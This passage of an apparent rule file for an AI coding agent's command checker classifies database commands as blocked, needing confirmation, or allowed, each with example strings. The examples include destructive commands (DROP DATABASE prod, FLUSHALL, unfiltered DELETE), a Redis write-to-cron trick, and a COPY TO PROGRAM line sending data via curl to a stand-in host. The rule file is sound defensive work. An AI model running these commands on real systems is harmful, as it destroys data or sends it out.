      match: ['psql -c "DROP DATABASE prod"', 'mysql -u root -e "drop database shop"', 'sqlite3 app.db "DROP TABLE users"', 'echo "DROP SCHEMA public CASCADE;" | psql', 'psql <<EOF\nDROP TABLE orders;\nEOF', 'dropdb prod', 'mysqladmin -u root drop testdb', 'mysql <<< "DROP TABLE IF EXISTS x"', 'psql -c "ALTER TABLE t DROP COLUMN c"', 'cockroach sql -e "DROP DATABASE x"'],
      notMatch: ['psql -c "SELECT * FROM drop_log"', 'psql -c "SELECT \'DROP TABLE x\'"', 'mysql -e "-- DROP TABLE x\nSELECT 1"', 'psql -f migrate.sql', 'createdb test'],
    },
  }, [...ALL_CLIENTS, ...ADMIN_TOOLS]),
  // Soft: TRUNCATE empties a table at once and cannot be rolled back in most engines.
  dbRule('db.truncate', {
    tier: 'soft_deny',
    reason: 'TRUNCATE deletes every row of the table; confirm with the user first.',
    examples: {
      match: ['psql -c "TRUNCATE users"', 'mysql -e "truncate table orders"', 'echo "TRUNCATE TABLE x;" | mysql db', 'clickhouse-client -q "TRUNCATE TABLE events"'],
      notMatch: ['psql -c "SELECT truncate_text(x) FROM t"', 'mysql -e "SELECT 1"'],
    },
  }),
  // Soft: DELETE or UPDATE without WHERE hits every row, usually by mistake.
  dbRule('db.delete-all', {
    tier: 'soft_deny',
    reason: 'DELETE or UPDATE without WHERE changes every row; add a WHERE clause.',
    examples: {
      match: ['psql -c "DELETE FROM users"', 'sqlite3 app.db "delete from sessions;"', 'mysql -e "UPDATE users SET admin = 1"', 'psql -c \'DELETE FROM "Users";\'', 'echo "delete from users" | psql'],
      notMatch: ['psql -c "DELETE FROM users WHERE id = 1"', 'mysql -e "UPDATE users SET x = 1 WHERE id = 2"', 'psql -c "SELECT * FROM deleted_users"'],
    },
  }),
  // Hard: FLUSHALL/FLUSHDB delete every key at once, with no undo.
  dbRule('db.redis-flush', {
    tier: 'hard_deny',
    reason: 'FLUSHALL/FLUSHDB delete every key; never do this from an agent.',
    examples: {
      match: ['redis-cli FLUSHALL', 'redis-cli -h cache.internal -n 2 flushdb', 'echo FLUSHALL | redis-cli', 'valkey-cli flushall async'],
      notMatch: ['redis-cli GET flushall', 'redis-cli KEYS "*"', 'redis-cli ping'],
    },
  }),
  // Hard for turning Redis into a file writer or loading modules; soft for other server administration.
  dbRule('db.redis-admin', {
    tier: 'hard_deny',
    reason: 'This administers the Redis server itself; confirm with the user first.',
    examples: {
      match: ['redis-cli CONFIG SET dir /var/spool/cron', 'redis-cli config set maxmemory 1gb', 'redis-cli SHUTDOWN', 'redis-cli MODULE LOAD /tmp/x.so', 'redis-cli replicaof 1.2.3.4 6379'],
      notMatch: ['redis-cli CONFIG GET maxmemory', 'redis-cli INFO', 'redis-cli get config'],
    },
  }),
  // Hard for dropDatabase; soft for dropping a collection or deleting with an empty filter.
  dbRule('db.mongo-drop', {
    tier: 'hard_deny',
    reason: 'This drops MongoDB data; confirm with the user first.',
    examples: {
      match: ['mongosh --eval "db.dropDatabase()"', 'mongo shop --eval "db.orders.drop()"', 'mongosh --eval "db.users.deleteMany({})"', 'mongosh <<EOF\nuse shop\ndb.dropDatabase()\nEOF', 'mongosh --eval "db.getSiblingDB(\'x\').dropDatabase()"'],
      notMatch: ['mongosh --eval "db.users.find({})"', 'mongosh --eval "db.users.deleteMany({ expired: true })"', 'mongosh --eval "print(\'dropDatabase\')"'],
    },
  }),
  // Soft: granting server-wide administrator rights is a security change, not a query.
  dbRule('db.privilege', {
    tier: 'soft_deny',
    reason: 'This grants administrator rights on the database server; confirm with the user first.',
    examples: {
      match: ['mysql -e "GRANT ALL PRIVILEGES ON *.* TO \'admin\'@\'%\'"', 'psql -c "ALTER USER app WITH SUPERUSER"', 'mysql -e "GRANT SELECT ON db.* TO u WITH GRANT OPTION"'],
      notMatch: ['mysql -e "GRANT SELECT ON shop.* TO \'ro\'@\'%\'"', 'psql -c "SELECT 1"'],
    },
  }),
  // Soft: a client's shell escape or file export runs outside what asimov can see.
  dbRule('db.client-shell', {
    tier: 'soft_deny',
    reason: 'This runs a shell command or writes a file through the database client; run it directly so it is checked.',
    examples: {
      match: ['psql -c "\\! rm -rf /tmp/x"', 'sqlite3 x.db ".shell id"', 'psql -c "COPY t TO PROGRAM \'curl -d @- x.example\'"', 'mysql -e "SELECT * FROM users INTO OUTFILE \'/tmp/u.csv\'"'],
      notMatch: ['psql -c "COPY t TO STDOUT"', 'sqlite3 x.db ".tables"'],
    },
  }),
  // Soft: stopping or reconfiguring a database server affects everything that uses it.
  dbRule('db.server-admin', {
    tier: 'soft_deny',
    reason: 'This stops or reconfigures the database server; confirm with the user first.',
    examples: {
      match: ['mysqladmin -u root shutdown', 'pg_ctl stop -D /var/lib/pg', 'mysqladmin flush-privileges'],
      notMatch: ['mysqladmin status', 'pg_ctl status'],
    },
  }, ['mysqladmin', 'pg_ctl', 'pg_ctlcluster']),
  // Soft: POST/PUT/DELETE to a data store's HTTP API (Elasticsearch on :9200, Meilisearch on :7700…) deletes
  // indices, closes them or changes cluster settings: the same as DROP or DELETE through a client, even on
  // localhost, where the developer's only copy of the data often lives. Searches sent as POST stay allowed.
  defineShellRule({
    id: 'db.http-write',
    tier: 'soft_deny',
    programs: ['curl', 'wget', 'wget2', 'http', 'https', 'xh', 'xhs'],
    reason: 'This sends a write request to a data store\'s HTTP API, which changes or deletes stored data; check the request with the user.',
    examples: {
      match: ['curl -X POST http://localhost:9200/logs/_delete_by_query -d \'{"query":{"match_all":{}}}\'', 'curl -X DELETE localhost:9200/logs', 'http PUT :9200/_cluster/settings persistent:=\'{}\'', 'curl -XPOST http://127.0.0.1:7700/indexes/movies/documents/delete-batch -d \'[1,2]\'', 'curl -X POST http://localhost:9090/api/v1/admin/tsdb/delete_series'],
      notMatch: ['curl http://localhost:9200/_cat/indices', 'curl -X POST http://localhost:9200/logs/_search -d \'{}\'', 'curl -X POST http://localhost:7700/indexes/movies/search -d \'{"q":"x"}\'', 'curl -X POST http://localhost:3000/api/users -d \'{}\'', 'curl -X POST "http://localhost:9090/api/v1/query?query=up"'],
    },
    match: (cmd, ctx) => httpWriteHit(cmd, ctx),
  }),
  // Allow: queries that only read.
  dbRule('db.read-only', {
    tier: 'allow',
    reason: 'Read-only database queries.',
    examples: {
      match: ['psql -c "SELECT count(*) FROM users"', 'psql -l', 'sqlite3 app.db ".tables"', 'mysql -e "SHOW DATABASES"', 'redis-cli GET session:1', 'redis-cli --scan', 'mongosh --eval "db.users.countDocuments()"', 'mysqladmin status', 'sqlite3 app.db "SELECT * FROM t LIMIT 5"'],
      notMatch: ['psql -c "DELETE FROM users"', 'psql -f x.sql', 'mysql -e "SELECT * FROM t INTO OUTFILE \'/tmp/x\'"', 'psql', 'redis-cli SET a 1', 'mongosh --eval "require(\'child_process\')"'],
    },
  }, [...ALL_CLIENTS, 'mysqladmin']),
];
